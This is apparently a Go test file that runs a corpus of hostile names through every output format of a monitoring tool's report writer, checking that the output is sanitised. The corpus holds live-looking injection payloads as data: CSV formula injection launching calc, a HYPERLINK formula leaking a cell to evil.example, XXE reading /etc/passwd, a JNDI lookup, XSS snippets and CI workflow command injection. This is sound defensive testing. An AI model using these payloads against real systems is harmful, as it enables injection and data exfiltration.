package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/monitorctl/monitorctl/internal/diff"
	"github.com/monitorctl/monitorctl/internal/finding"
)

// hostileNames is the corpus of names that someone with an account of their
// own may choose: it runs through every format.
var hostileNames = []struct{ name, text string }{
	{"terminal colors", "x\x1b[31mred\x1b[0m"},
	{"terminal clear and title", "\x1b[2J\x1b]0;owned\x07"},
	{"terminal C1", "a\u009b31m\u0085b"},
	{"bytes that are C1", "a\x9b31m"},
	{"carriage return and overprint", "FAIL\rPASS"},
	{"line breaks", "one\ntwo\r\nthree\u2028four\u2029five"},
	{"tabs and NUL", "a\tb\x00c\x08d\x7f"},
	{"bidirectional overrides", "a\u202egnp.exe\u2066x\u2069\u200f"},
	{"invisible characters", "pay\u00ad\u200b\u2060\ufeffroll\U000e0041"},
	{"not UTF-8", "a\xff\xfe\xc3(b\xed\xa0\x80c"},
	{"formula", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"formula plus", "+1+cmd|' /C calc'!A0"},
	{"formula minus", "-2+3+cmd|' /C calc'!A0"},
	{"formula at", "@SUM(1+1)*cmd|' /C calc'!A0"},
	{"formula after tab", "\t=1+1"},
	{"formula after carriage return", "\r=1+1"},
	{"formula after a blank", " =1+1"},
	{"formula full width", "＝1+1"},
	{"quotes and separators", `a"b,c;d'e` + "`f`"},
	{"HTML script", `<script>alert(1)</script>`},
	{"HTML attribute", `" onmouseover="alert(1)' x='`},
	{"HTML image", `<img src=x onerror=alert(1)>`},
	{"HTML comment and CDATA", `--><!-- ]]> <![CDATA[ </title></style>`},
	{"HTML entity", `&lt;script&gt; &#60;b&#62; &amp;`},
	{"Markdown link", `[click](https://evil.example) [x]: https://evil.example "t"`},
	{"Markdown image", `![track](https://evil.example/p.png)`},
	{"Markdown autolink", `<https://evil.example> https://evil.example www.evil.example mail@evil.example`},
	{"Markdown mention", `@security-team @org/team #1 GH-1 org/repo#2 deadbeefcafe :boom: !1 ~label`},
	{"Markdown table", `a | b \| c || d \\| e |`},
	{"Markdown code", "`` ` ``` code \\` \\"},
	{"Markdown blocks", "# h\n- l\n1. n\n> q\n---\n===\n```\nfence\n```"},
	{"Markdown emphasis", `*a* _b_ **c** __d__ ~~e~~ \*f`},
	{"Markdown list in a word", "1. - + * # >"},
	{"Markdown footnote and task", `[^1] [ ] [x] $math$ $$m$$`},
	{"XML illegal characters", "a\x01\x0b\x0c\x1f\ufffe\uffffb"},
	{"XML noncharacters above", "a\U0001fffe\U0010ffffb"},
	{"XML doctype", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`},
	{"workflow command", "::error file=a,line=1::owned"},
	{"workflow command on a line of its own", "x\n::stop-commands::t\n::set-output name=a::b"},
	{"workflow command of the first kind", "x ##[error]owned ##[add-mask]a"},
	{"other runners' commands", "##vso[task.setvariable variable=a]b ##teamcity[message text='a']"},
	{"workflow escapes", "100%25 %0A::error::x %3A%2C,:;]"},
	{"template expression", "${{ secrets.TOKEN }} {{7*7}} ${jndi:ldap://evil.example/a} %s%n%d"},
	{"JSON", `","status":"pass","x":"\u0000\"}]}`},
	{"path", "../../etc/passwd\\..\\C:/x?y#z%2e"},
	{"scheme", "javascript:alert(1) data:text/html,x file:///etc/passwd"},
	{"blanks", "   "},
	{"combining marks", "a" + strings.Repeat("\u0301", 200)},
	{"wide characters and joined emoji", "日本語の名前 👩\u200d💻 🏳️\u200d🌈"},
	{"very long word", strings.Repeat("A", 5000)},
	{"very long and hostile", strings.Repeat("|`<@=\x1b[0m\n", 500)},
}

// plainName is what hostileNames are compared with.
const plainName = "plain"

// named returns everyStatus with text as every name in it: each field that is
// a plain string, so that a field added later joins. Ids are left alone: those
// of findings are hashes, and account's reader refuses an account's id that is
// not twelve digits.
func named(text string) finding.Report {
	r := everyStatus()
	r.Framework, r.Findings[1].Mapped = mapped().Framework, []string{"AU-6(1)", "SI-4(12)"}
	rename(reflect.ValueOf(&r).Elem(), text)
	return r
}

// rename replaces the strings that v holds and that are not empty, ids aside.
func rename(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			rename(v.Elem(), text)
		}
	case reflect.Slice:
		if v.IsNil() {
			return
		}
		v.Set(reflect.AppendSlice(reflect.MakeSlice(v.Type(), 0, v.Len()), v)) // the fixtures share some
		for i := range v.Len() {
			rename(v.Index(i), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			f := v.Type().Field(i)
			if f.IsExported() && f.Name != "ID" && f.Name != "Account" {
				rename(v.Field(i), text)
			}
		}
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() && v.Len() > 0 {
			v.SetString(text)
		}
	}
}

// A formatCheck is how the corpus is held against one format.
type formatCheck struct {
	// read takes output back as the format's own readers do, not as our writer
	// made it: shape is its structure without any text (two outputs of the same
	// findings with other names have the same one), text all that a person would
	// see of it. It fails the test when a reader would refuse the output.
	read func(t *testing.T, out []byte) (shape, text string)

	// shown is what a reader sees of a name, somewhere in text. Nil stands for
	// Sanitize.
	shown func(name string) string
}

// formatChecks has an entry for each format that -o knows.
var formatChecks = map[string]formatCheck{
	"asff":     {read: readJSONShape, shown: func(name string) string { return truncate(Sanitize(name), asffText) }},
	"csv":      {read: readCSV},
	"github":   {read: readCommands},
	"gitlab":   {read: readGitLab},
	"html":     {read: readHTML},
	"json":     {read: readJSONShape, shown: validUTF8},
	"jsonl":    {read: readJSONLines, shown: validUTF8},
	"junit":    {read: readXML},
	"markdown": {read: readMarkdown},
	"ocsf":     {read: readOCSF},
	"sarif":    {read: readJSONShape},
	"table":    {read: readLines},
}

// TestHostileNames runs the corpus through every format: a name changes
// neither the structure that a reader finds nor what a terminal does, and it
// is shown.
func TestHostileNames(t *testing.T) {
	for _, format := range Formats() {
		t.Run(format, func(t *testing.T) {
			check, ok := formatChecks[format]
			if !ok {
				t.Fatalf("formatChecks has no entry for the format %s: say there how its output is read back", format)
			}
			if check.shown == nil {
				check.shown = Sanitize
			}
			want, _ := check.read(t, formatted(t, format, plainName))
			if want == "" {
				t.Fatal("the report with plain names has no shape: nothing would be compared")
			}
			for _, tt := range hostileNames {
				t.Run(tt.name, func(t *testing.T) {
					out := formatted(t, format, tt.text)
					checkBytes(t, format, out)
					shape, text := check.read(t, out)
					if shape != want {
						t.Errorf("the name changes the structure:\n%s\nwant\n%s", clip(shape), clip(want))
					}
					if shown := check.shown(tt.text); !strings.Contains(squeeze(text), squeeze(shown)) {
						t.Errorf("%q is not shown as %q in\n%s", clip(tt.text), clip(shown), clip(text))
					}
				})
			}
		})
	}
}

// formatted returns a report in a format, as it goes into a file or pipe, with
// text as every name in the report, the catalog and the names of files.
func formatted(t *testing.T, format, text string) []byte {
	t.Helper()
	f, err := Find(format)
	if err != nil {
		t.Fatal(err)
	}
	controls := someControls()
	rename(reflect.ValueOf(&controls).Elem(), text)
	controls[0].ID = text
	o := Options{
		Version: "1.2.3", Verbose: true, ShowWaived: true,
		Config: &ConfigFile{Path: text, SHA256: digest},
		Baseline: &Baseline{Path: text, Standing: diff.Standing{
			Known: map[string]bool{"0b77de": true}, Fixed: []finding.Finding{{ID: "ee01", Control: text, Account: "111122223333"}},
			Fresh: map[string][]finding.Reason{"ee01": {{Code: "no-filter", Message: text}}},
		}},
		Controls: controls,
	}
	var b bytes.Buffer
	if err := f.Write(&b, named(text), o); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// runnerCommand is how CI systems mark commands anywhere in a line.
var runnerCommand = regexp.MustCompile(`##[a-zA-Z]*\[`)

// checkBytes demands what holds for the bytes of every format: nothing in them
// moves a cursor, reorders text or is a command to a runner that reads a log.
func checkBytes(t *testing.T, format string, out []byte) {
	t.Helper()
	if !utf8.Valid(out) {
		t.Error("the output is not UTF-8")
	}
	lineEnds := "\n"
	if format == "csv" {
		lineEnds = "\r\n" // RFC 4180
	}
	for i, r := range string(out) {
		if !strings.ContainsRune(lineEnds, r) && !isSafeRune(r) {
			t.Errorf("byte %d: %U stands in the output", i, r)
			break
		}
	}
	if command := runnerCommand.Find(out); command != nil {
		t.Errorf("a runner that reads the output as a log finds the command %q", command)
	}
	for line := range bytes.Lines(out) {
		if bytes.HasPrefix(bytes.TrimSpace(line), []byte("::")) && format != "github" {
			t.Errorf("a line is a workflow command: %q", clip(string(line)))
		}
	}
}

// squeeze removes blanks, which tables and renderers collapse and wrap at.
func squeeze(text string) string { return strings.Join(strings.Fields(text), "") }

func validUTF8(text string) string { return string([]rune(text)) }

// clip keeps failure messages readable.
func clip(text string) string {
	const most = 2000
	if len(text) > most {
		return text[:most] + "..."
	}
	return text
}

// readLines is the check of text for terminals: the number of lines.
func readLines(_ *testing.T, out []byte) (shape, text string) {
	return fmt.Sprintf("%d lines", bytes.Count(out, []byte("\n"))), string(out)
}

// readJSONShape reads one JSON value.
func readJSONShape(t *testing.T, out []byte) (shape, text string) {
	t.Helper()
	var v any
	if err := json.Unmarshal(out, &v); err != nil {
		t.Fatal(err)
	}
	return shapeOf(v)
}

// shapeOf describes a JSON value without its texts, which it also returns.
func shapeOf(v any) (shape, text string) {
	var shapes, texts strings.Builder
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			shapes.WriteByte('{')
			for _, k := range slices.Sorted(maps.Keys(v)) {
				shapes.WriteString(k + ":")
				walk(v[k])
			}
			shapes.WriteByte('}')
		case []any:
			shapes.WriteByte('[')
			for _, e := range v {
				walk(e)
			}
			shapes.WriteByte(']')
		case string:
			shapes.WriteByte('s')
			texts.WriteString(v + "\n")
		default:
			fmt.Fprint(&shapes, v)
		}
	}
	walk(v)
	return shapes.String(), texts.String()
}

// TestSanitizeCorpus holds what all writers for people rest on.
func TestSanitizeCorpus(t *testing.T) {
	for _, tt := range hostileNames {
		for _, r := range Sanitize(tt.text) {
			if unicode.Is(unicode.Cc, r) || unicode.Is(unicode.Bidi_Control, r) {
				t.Errorf("%s: %U stays", tt.name, r)
			}
		}
	}
}
